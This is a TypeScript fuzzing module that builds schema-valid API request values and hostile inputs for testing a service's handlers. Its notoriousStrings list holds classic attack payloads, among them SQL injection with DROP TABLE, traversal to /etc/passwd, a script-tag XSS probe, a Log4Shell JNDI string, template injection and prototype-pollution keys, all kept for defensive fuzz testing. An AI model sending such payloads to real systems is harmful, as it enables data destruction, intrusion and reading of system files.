// Values for the fuzzer: valid ones derived from a JSON schema (so requests reach the handlers and succeed),
// and hostile ones (strings, numbers, keys, whole JSON values) that a client could send instead.
import fc from "fast-check";
import type { JsonSchema } from "./openapi-operations.js";

/** Real ids a uuid field or parameter may name: the caller's own (to reach success) and another tenant's. */
export interface IdPool {
  own: string[];
  foreign: string[];
}

export function idArbitrary(ids: IdPool): fc.Arbitrary<{ value: string; foreign: boolean }> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...ids.own).map((value) => ({ value, foreign: false })) },
    { weight: 3, arbitrary: fc.constantFrom(...ids.foreign).map((value) => ({ value, foreign: true })) },
    { weight: 1, arbitrary: fc.uuid().map((value) => ({ value, foreign: false })) },
  );
}

/** Which real ids a uuid field of this name may hold. */
export type IdsFor = (name: string) => IdPool;

/** A value the schema accepts; a uuid field named `name` draws from `idsFor(name)`. */
export function validValue(schema: JsonSchema, idsFor: IdsFor, name = ""): fc.Arbitrary<unknown> {
  const types: (string | undefined)[] = Array.isArray(schema.type) ? schema.type : [schema.type];
  if (types.includes("null")) {
    const rest = types.filter((type): type is string => type !== undefined && type !== "null");
    const nonNull = { ...schema, type: rest.length === 1 ? rest[0] : rest };
    return fc.oneof(fc.constant(null), validValue(nonNull, idsFor, name));
  }
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (types.includes("object")) return validObject(schema, idsFor);
  if (types.includes("array")) return fc.array(validValue(schema.items ?? {}, idsFor, name), { maxLength: 3 });
  if (types.includes("integer")) return fc.integer({ min: schema.minimum ?? -1000, max: schema.maximum ?? 1000 });
  if (types.includes("number"))
    return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true });
  if (types.includes("boolean")) return fc.boolean();
  return validString(schema, idsFor(name));
}

function validObject(schema: JsonSchema, idsFor: IdsFor): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  const model = Object.fromEntries(
    Object.entries(properties).map(([name, property]) => [name, validValue(property, idsFor, name)]),
  );
  return fc.record(model, { requiredKeys: (schema.required ?? []).filter((name) => name in properties) });
}

function validString(schema: JsonSchema, ids: IdPool): fc.Arbitrary<string> {
  if (schema.format === "uuid") return idArbitrary(ids).map((id) => id.value);
  if (schema.format === "email") return fc.uuid().map((id) => `fuzz-${id.slice(0, 13)}@example.com`);
  if (schema.format === "date")
    return fc
      .date({ min: new Date("2000-01-01"), max: new Date("2099-12-31"), noInvalidDate: true })
      .map((date) => date.toISOString().slice(0, 10));
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 40, 40));
  return fc.string({ minLength, maxLength, unit: "grapheme-ascii" });
}

/** Strings that have broken parsers, databases, loggers and templates somewhere. */
const notoriousStrings = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff\ud800",
  "\u202e\u0645\u0631\u062d\u0628\u0627",
  "\ufeff",
  "'; DROP TABLE cases; --",
  "' OR '1'='1",
  "$$; SELECT 1; $$",
  "\\",
  '"',
  "%",
  "%zz",
  "%00",
  "%ff%fe",
  "../../../etc/passwd",
  "<script>alert(1)</script>",
  "${jndi:ldap://example.invalid/a}",
  "{{constructor.constructor('return 1')()}}",
  "__proto__",
  "constructor",
  "NaN",
  "-0",
  "1e309",
  "\r\n\r\nHTTP/1.1 200 OK",
  "🏳️‍🌈".repeat(40),
  "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...notoriousStrings) },
  { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  { weight: 2, arbitrary: fc.integer({ min: 199, max: 320 }).map((length) => "x".repeat(length)) },
  { weight: 1, arbitrary: fc.constantFrom(10_001, 25_000, 60_000).map((length) => "y".repeat(length)) },
);

export const oddNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, -1, 0.5, 2 ** 31, 2 ** 53 + 2, -(2 ** 63), 1e308, Number.MIN_VALUE, Number.MAX_SAFE_INTEGER),
  fc.double(),
  fc.integer(),
);

/** Keys a JSON parser or a naive merge may turn into prototype pollution. */
export const prototypeKey = fc.constantFrom("__proto__", "constructor", "prototype");

/** Any JSON value at all, including the shapes no schema asks for. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  oddNumber,
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.oneof(hostileString, oddNumber), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(hostileString, oddNumber), { maxKeys: 4 }),
);
